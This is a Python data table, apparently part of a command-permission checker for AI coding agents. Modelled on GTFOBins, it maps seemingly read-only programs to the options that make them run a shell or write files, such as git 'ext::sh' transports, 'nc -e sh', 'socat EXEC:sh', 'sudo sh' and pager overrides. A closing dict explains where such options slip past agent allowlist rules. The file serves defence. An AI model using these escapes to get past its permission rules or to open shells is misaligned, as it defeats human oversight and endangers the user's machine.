"""
Programs that are allowed for reading, and the options by which they run another program or write a file.

After the list that people keep of such options (GTFOBins). A row is a command; the plain form of each program stands
beside it, and shows that the program itself is allowed.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Program(NamedTuple):
    plain: str
    """Only reads; allowed where the program is."""
    runs: tuple[str, ...] = ()
    """Run another program, or program text of the arguments or of a file that they name."""
    writes: tuple[str, ...] = ()
    """Write a file that an option names."""


PROGRAMS: Final = (
    Program(
        "git log",
        runs=(
            "git -c core.pager=sh log", "git -c core.fsmonitor=./x status", "git -ccore.sshCommand=sh fetch",
            "git --config-env=core.pager=X log", "git --exec-path=. log",
            "git -c protocol.ext.allow=always clone 'ext::sh -c id'", "git clone 'ext::sh -c id' x",
            "git fetch 'ext::sh -c id'", "git ls-remote 'ext::sh -c id'", "git pull 'ext::sh -c id'",
            "git remote add x 'ext::sh -c id'", "git push 'ext::sh -c id'", "git grep --open-files-in-pager=sh x",
            "git grep -Osh x", "git grep -O sh x", "git diff --ext-diff", "git log --textconv", "git difftool -x sh",
            "git difftool --extcmd=sh", "git rebase --exec sh", "git rebase -x sh", "git rebase -xsh",
            "git bisect run sh", "git submodule foreach id", "git filter-branch --tree-filter id",
            "git clone --upload-pack=sh . x", "git clone -u sh . x", "git fetch --upload-pack sh .",
            "git push --receive-pack=sh .", "git push --exec=sh .", "git ls-remote --upload-pack=sh .",
            "git archive --remote=. --exec=sh HEAD", "git clone --config core.pager=sh . x",
            "git clone -c core.fsmonitor=sh . x", "git clone --template=t . x", "git init --template=t",
            "git commit --gpg-sign", "git mergetool -t x", "git config core.pager sh",
            "git config --global alias.x '!id'", "git config set core.pager sh", "git send-email --sendmail-cmd=sh x",
            "git daemon --access-hook=./x .", "git -C . -c alias.x=!id x", "git instaweb --browser=sh",
            "git web--browse --tool=sh x", "git for-each-repo --config=x log", "git hook run x",
            "git credential fill",
        ),
        writes=(
            "git log --output=x", "git diff --output x", "git format-patch -o x", "git archive -o x HEAD",
            "git bundle create x HEAD",
        ),
    ),
    Program(
        "find . -name x",
        runs=(
            "find . -exec id ';'", "find . -exec sh -c id {} +", "find . -execdir id ';'", "find . -ok id ';'",
            "find . -okdir id ';'",
        ),
        writes=(
            "find . -fprint x", "find . -fprint0 x", "find . -fprintf x %p", "find . -fls x", "find . -delete",
        ),
    ),
    Program(
        "tar -tf a",
        runs=(
            "tar -cf a f --checkpoint=1 --checkpoint-action=exec=sh", "tar -xf a --to-command=sh", "tar -xf a -I sh",
            "tar -xIsh -f a", "tar -xf a --use-compress-program=sh", "tar -xf h:a --rsh-command=sh",
            "tar -cf a -L1 -F sh f", "tar -cMf a --info-script=sh f", "tar -cMf a --new-volume-script=sh f",
            "tar --checkpoint-act=exec=id -tf a", "tar -tf a --checkpoint-action exec=id", "tar xIf sh a",
            "tar cFf sh a f",
        ),
        writes=(
            "tar -cf a f", "tar -xf a", "tar -tf a --index-file=x",
        ),
    ),
    Program(
        "awk '{print $1}' f",
        runs=(
            'awk \'BEGIN{system("id")}\'', 'awk \'BEGIN{"id"|getline}\'', 'awk \'{print | "sh"}\' f',
            'gawk -e \'BEGIN{system("id")}\'', "awk -f x.awk", "awk --file=x.awk", "gawk -i inplace 1 f",
            "gawk -l ./x.so 1", "gawk -E x.awk", "awk -v x=1 'BEGIN{system(x)}'", 'awk -F: \'BEGIN{system("id")}\'',
            'mawk \'BEGIN{system("id")}\'', 'awk -- \'BEGIN{system("id")}\'', 'awk -vx=1 \'{print|"sh"}\' f',
            "gawk --exec x.awk", "gawk --load ./x.so 1", "gawk --include x 1", "gawk -f x.awk", "awk -fx.awk f",
            "gawk -D 1", 'gawk --source \'BEGIN{system("id")}\'',
        ),
        writes=(
            'awk \'{print > "x"}\' f', "gawk -o x 1", "gawk -dx 1", "gawk -px 1",
        ),
    ),
    Program(
        "sed -n 1p f",
        runs=(
            "sed 1e f", "sed '1e id' f", "sed 's/x/id/e' f", "sed -n '$e' f", "sed -e 1e f", "sed -ne 1e f",
            "sed --expression=1e f", "sed -f x.sed f", "sed --file=x.sed f", "sed -nf x.sed f", "sed 's,a,b,e' f",
            "sed '/x/e id' f", "sed -fx.sed f", "sed 's/a/b/ge' f", "sed '1{e id\n}' f", "sed -E 's/(.)/\\1/e' f",
            "sed --expr=1e f",
        ),
        writes=(
            "sed 'w x' f", "sed -i s/a/b/ f", "sed 's/a/b/w x' f", "sed --in-place s/a/b/ f", "sed -n '1W x' f",
        ),
    ),
    Program(
        "sort f",
        runs=(
            "sort --compress-program=sh -S1 f", "sort --comp=sh f", "sort --compress-program sh f",
        ),
        writes=(
            "sort -o x f", "sort --output=x f", "sort -ox f", "sort -T x f",
        ),
    ),
    Program(
        "rg x f",
        runs=(
            "rg --pre=sh x f", "rg --pre sh x f", "rg --hostname-bin=sh x", "rg -z x f", "rg --search-zip x f",
            "rg -nz x f",
        ),
    ),
    Program(
        "fd x",
        runs=(
            "fd -x sh", "fd -X sh", "fd --exec sh", "fd --exec-batch sh", "fdfind -x sh", "fd -HX sh",
            "fd x -tf -xid",
        ),
    ),
    Program(
        "man ls",
        runs=(
            "man -P sh ls", "man --pager=sh ls", "man -H ls", "man --html=sh ls", "man -Psh ls", "man --pag=sh ls",
            "man -C x ls", "man --config-file=x ls",
        ),
    ),
    Program(
        "less f",
        runs=(
            "less +!id f", "less '+|$id' f", "less -kx f", "less --lesskey-src=x f", "less --lesskey-content=x f",
        ),
        writes=(
            "less -o x f", "less -Ox f", "less --log-file=x f",
        ),
    ),
    Program(
        "more f",
        runs=(
            "more +!id f",
        ),
    ),
    Program(
        "vim f",
        runs=(
            "vim -c :!id", "vim +:!id f", "vim --cmd :!id", "vim -S x", "vim -s x", "vim -u x", "vi -c :!id",
            "nvim -c :!id", "nvim -l x.lua", "vim -es -c x", "view -c :!id", "vimdiff -c :!id a b", "rview -c :!id",
            "gvim -c :!id", "ex -c :!id", "nvim --headless -c :!id",
        ),
        writes=(
            "vim -W x f",
        ),
    ),
    Program(
        "emacs f",
        runs=(
            "emacs --eval x", "emacs -batch -l x", "emacs --load=x", "emacs -f x", "emacs --execute x",
            "emacs -Q --script x", "emacsclient -e x", "emacs --insert x --eval=x",
        ),
    ),
    Program(
        "nano f",
        runs=(
            "nano -s sh f", "nano --speller=sh f", "pico -s sh f", "nano --rcfile=x f",
        ),
        writes=(
            "nano -C x f",
        ),
    ),
    Program(
        "make -n",
        runs=(
            "make --eval=x", "make -Ex", "make --ev=x", "make -f x", "make --file=x", "make SHELL=./x",
            "gmake --eval x", "make --makefile=x", "make -fx", "make .SHELLFLAGS=x",
        ),
    ),
    Program(
        "npm ls",
        runs=(
            "npm exec id", "npm x id", "npm run x --script-shell=sh", "npm test --node-options=x", "npm install x",
            "npm explore x", "npm init x", "npm --script-shell sh test", "npm config set script-shell sh", "npm i x",
            "npm edit x", "npm create x", "npm link x",
        ),
    ),
    Program(
        "yarn list",
        runs=(
            "yarn exec id", "yarn dlx id", "yarn node x", "yarn --script-shell=sh test", "pnpm exec id",
            "pnpm dlx id", "yarn create x", "pnpm create x",
        ),
    ),
    Program(
        "rsync a b",
        runs=(
            "rsync -e sh a b:", "rsync --rsh=sh a b:", "rsync --rsync-path=sh a b:", "rsync -ae sh a b:",
            "rsync --rs=sh a b:", "rsync -esh a b:",
        ),
    ),
    Program(
        "scp a b",
        runs=(
            "scp -S sh a b:", "scp -o ProxyCommand=sh a b:", "scp -oProxyCommand=sh a b:",
            "sftp -o ProxyCommand=sh h", "sftp -S sh h", "scp -F x a b:", "sftp -b x h", "sftp -D sh",
            "scp -D sh a b:",
        ),
    ),
    Program(
        "zip a f",
        runs=(
            "zip -T -TT sh a f", "zip --unzip-command=sh a f", "zip a f -TTsh", "zip -rTT sh a f",
        ),
        writes=(
            "zip -O x a",
        ),
    ),
    Program(
        "curl -V",
        runs=(
            "curl -K x", "curl --config x", "curl --conf x", "curl -sKx",
        ),
        writes=(
            "curl -o x e", "curl -O e", "curl --output x e", "curl -D x e", "curl --trace x e", "curl -c x e",
            "curl --stderr x e", "curl --libcurl x e", "curl --etag-save x e",
        ),
    ),
    Program(
        "wget -V",
        runs=(
            "wget --use-askpass=sh e", "wget --config=x e", "wget -e x=y e", "wget --execute=x e", "wget -ex=y e",
        ),
        writes=(
            "wget -O x e", "wget -o x e", "wget -P x e", "wget --output-document=x e",
        ),
    ),
    Program(
        "split f",
        runs=(
            "split --filter=sh f", "split --filt=sh f", "split --filter sh f",
        ),
    ),
    Program(
        "go version",
        runs=(
            "go test -exec sh", "go run x.go", "go vet -vettool=sh", "go build -toolexec sh", "go generate",
            "go test -exec=sh", "go build -overlay x", "go env -w CC=sh",
        ),
    ),
    Program(
        "cargo --version",
        runs=(
            "cargo --config x build",
        ),
    ),
    Program(
        "gcc --version",
        runs=(
            "gcc -wrapper sh x.c", "gcc -fplugin=./x.so x.c", "gcc -specs=x x.c", "gcc -B. x.c", "cc -B . x.c",
            "g++ -fplugin=x a.cc", "clang -fplugin=x a.c", "clang -Xclang -load a.c", "gcc @x",
            "ld -plugin ./x.so a.o", "as @x",
        ),
        writes=(
            "gcc -o x x.c",
        ),
    ),
    Program(
        "python3 --version",
        runs=(
            "python3 -c x", "python3 -Ic x", "python3", "python3 -", "python3 -m timeit x", "python3 -m pdb x",
            "python -c x", "pypy3 -c x", "python3 -mcode", "python3 -W error -c x", "python3 -X utf8 -c x",
            "ipython -c x", "uv run x", "poetry run x",
        ),
    ),
    Program(
        "node --version",
        runs=(
            "node -e x", "node -p x", "node --eval x", "node --print=x", "node -r ./x", "node",
            "node --import ./x -e y", "bun -e x", "deno eval x", "node -pe x", "tsx -e x", "ts-node -e x",
            "node --test",
        ),
    ),
    Program(
        "perl -v",
        runs=(
            "perl -e x", "perl -E x", "perl -ne x", "perl -Mx -e y", "perl '-Mx;system(1)' f", "perl", "perl -we x",
            "perl -i -pe x f",
        ),
    ),
    Program(
        "ruby -v",
        runs=(
            "ruby -e x", "ruby -ne x", "ruby -rx -e y", "ruby", "irb -e x", "jruby -e x", "gem exec x",
            "bundle exec x",
        ),
    ),
    Program(
        "php -v",
        runs=(
            "php -r x", "php -B x", "php -R x", "php -E x", "php --run x", "php", "php -S localhost:1",
        ),
    ),
    Program(
        "lua -v",
        runs=(
            "lua -e x", "luajit -e x", "lua -l x", "lua",
        ),
    ),
    Program(
        "tclsh --version",
        runs=(
            "tclsh", "expect -c x", "julia -e x", "R -e x", "Rscript -e x", "ghci -e x", "guile -c x",
            "sbcl --eval x", "octave --eval x", "elixir -e x", "erl -eval x", "scala -e x", "groovy -e x",
            "osascript -e x",
        ),
    ),
    Program(
        "bash --version",
        runs=(
            "bash -c x", "bash -xc id", "bash", "bash -s", "bash --rcfile x", "bash --init-file x", "sh -c x",
            "dash -c id", "ksh -c id", "zsh -c x", "fish -c id", "csh -c id", "pwsh -c id", "bash +x -c id",
            "bash -o posix -c id", "rbash -c id",
        ),
    ),
    Program(
        "env",
        runs=(
            "env sh -c id", "env -S 'sh -c id'", "env A=b sh", "env -i sh", "env --split-string='sh -c id'",
            "env -iS 'sh -c id'", "env -vS id",
        ),
    ),
    Program(
        "nice",
        runs=(
            "nice sh", "nice -n 5 sh -c id", "nice -5 sh", "ionice -c3 sh", "timeout 1 sh", "timeout -s KILL 1 sh",
            "nohup sh", "setsid sh", "stdbuf -o0 sh", "time sh", "flock f sh", "flock f -c id", "flock -c id f",
            "chroot . sh", "unshare sh", "nsenter -t 1 sh", "setarch x86_64 sh", "taskset 1 sh", "chrt 1 sh",
            "strace sh", "ltrace sh", "busybox sh", "toybox sh", "fakeroot sh", "sudo sh", "doas sh", "su -c id",
            "runuser -u x sh", "script -c id", "script -qc id x", "watch id", "parallel id ::: x", "entr id",
            "dbus-run-session sh", "setpriv sh", "tini sh", "dumb-init sh", "start-stop-daemon -S -x sh",
            "run-parts x", "systemd-run id", "at now", "crontab x", "tmux new id", "screen -dm id", "pkexec sh",
            "capsh -- -c id", "firejail sh", "bwrap sh", "proot sh", "catchsegv sh", "valgrind sh", "perf stat sh",
            "logsave x sh", "cpulimit -- sh", "softlimit sh", "torsocks sh", "proxychains sh", "xvfb-run sh",
            "rlwrap sh", "unbuffer sh", "dtach -c x sh", "socat - EXEC:sh", "nc -e sh h 1", "ncat -c id h 1",
            "nc -c id h 1", "ssh-agent sh", "gdb -ex x", "gdb --eval-command=x", "gdb -x x", "gdb --args sh",
            "lldb -o x", "gdbserver :1 sh", "rpm --eval x", "apt-get -o APT::Update::Pre-Invoke::=sh update",
            "docker run x", "docker exec x id", "podman run x", "kubectl exec x", "kubectl debug x", "lxc exec x",
            "ansible -m shell -a id x", "openssl req -engine ./x", "openssl s_client -provider ./x",
            "sqlite3 x '.shell id'", "sqlite3 x .system", "sqlite3 -cmd '.shell id' x", "psql -c '\\! id'",
            "mysql -e '\\! id'", "mysql --pager=sh", "psql -f x", "sqlite3 -init x y", "ip netns exec x sh",
            "tcpdump -z sh -G1 -w x", "nmap --script x h", "ip -batch x", "dvips -R0 x", "pdflatex --shell-escape x",
            "latex -shell-escape x", "gs -dNOSAFER x", "dc -e '!id'", "jrunscript -e x", "cmake -P x",
            "cmake -E env sh", "ninja -f x", "bazel run x", "crystal eval x", "gimp -b x", "blender -b -P x",
            "inkscape --actions=x", "chromium --renderer-cmd-prefix=sh", "mutt -e x", "lynx -editor=sh x",
            "elinks -eval x", "ranger --cmd=x", "fzf --preview=sh", "fzf --bind=x", "bat --pager=sh f",
            "bat --pager sh f", "delta --pager=sh", "gh alias set x '!id'", "gh extension exec x", "hg --config=x y",
            "svn --editor-cmd=sh x", "cvs -e sh x", "aria2c --on-download-complete=sh e", "ctags --options=x f",
            "restic x --password-command=sh", "borg x --rsh=sh", "cowsay -f x", "genie -c sh", "latexmk -e x",
            "multitime sh", "nawk 'BEGIN{system(1)}'", "puppet apply -e x", "rc -c id", "slsh -e x", "socat x y",
            "xdotool exec sh", "xargs sh -c", "xargs -I{} sh -c {}", "xargs -a f sh", "xargs -P4 id", "npx id",
            "npx -c id", "npx -p x id", "npx --call id", "bunx id", "pnpx id", "uvx id", "pipx run id",
            "ssh -o ProxyCommand=sh h", "ssh -oLocalCommand=id h", "ssh h id", "ssh -F x h", "mosh h", "rsh h id",
            "ssh-keygen -D ./x.so", "ssh-add -s ./x.so", "autossh h", "sshpass -p x sh", "dbclient -J sh h",
            "plink -proxycmd sh h",
        ),
    ),
    Program(
        "xz -l a",
    ),
    Program(
        "diff a b",
        writes=(
            "diff --to-file=x a", "patch -o x a b", "diff -u a b --output=x",
        ),
    ),
    Program(
        "tcpdump -r x",
        runs=(
            "tcpdump -r x -z sh", "tcpdump -zsh -r x",
        ),
    ),
    Program(
        "openssl version",
        runs=(
            "openssl x -engine ./x.so", "openssl x -provider ./x.so",
        ),
        writes=(
            "openssl enc -out x",
        ),
    ),
    Program(
        "base64 f",
        writes=(
            "base64 -o x f", "base64 --output=x f",
        ),
    ),
    Program(
        "uniq f",
        writes=(
            "uniq f x",
        ),
    ),
    Program(
        "xxd f",
        writes=(
            "xxd f x", "xxd -r f x",
        ),
    ),
)  # fmt: skip

ALONE: Final = frozenset(
    {
        "xargs -P4 id", "npx id", "bunx id", "pnpx id", "uvx id", "python3", "python3 -", "uv run x", "poetry run x",
        "node -r ./x", "node", "node --test", "perl", "ruby", "bundle exec x", "php", "php -S localhost:1",
        "lua -l x", "lua", "tclsh", "bash", "bash -s", "env A=b sh", "env -i sh", "nice sh", "nice -5 sh",
        "ionice -c3 sh", "timeout 1 sh", "timeout -s KILL 1 sh", "nohup sh", "setsid sh", "stdbuf -o0 sh", "time sh",
        "flock f sh", "chroot . sh", "unshare sh", "setarch x86_64 sh", "taskset 1 sh", "chrt 1 sh", "strace sh",
        "ltrace sh", "busybox sh", "toybox sh", "fakeroot sh", "sudo sh", "doas sh", "runuser -u x sh",
        "dbus-run-session sh", "setpriv sh", "tini sh", "dumb-init sh", "catchsegv sh",
    }
)  # fmt: skip
"""What `shell_cmd` runs by itself: it would run the inner program without its wrapper, too."""

ALLOWED_BY: Final = {
    "shell_cmd": (
        "it may run any single program; one behind a wrapper is read and judged as if it stood alone, and an "
        "interpreter without a program finds an empty stdin"
    ),
    "workspace_run": "its list names first words; whatever follows is the program's own, by the contract's words",
    "codex, with a prefix rule": "a rule of one word is a yes to all that begins with it, by the contract's words",
    "files that options write": (
        "rules, `run_shell_command` and `shell_cmd` promise about what runs; in a rule `unless` is for what is written"
    ),
    "files that are run": (
        "`python3 x.py`, `make` and `npm test` run what lies in the workspace, and that is their plain work: to allow "
        "them is to allow it"
    ),
}
"""Where an option of the table is let pass, and why."""
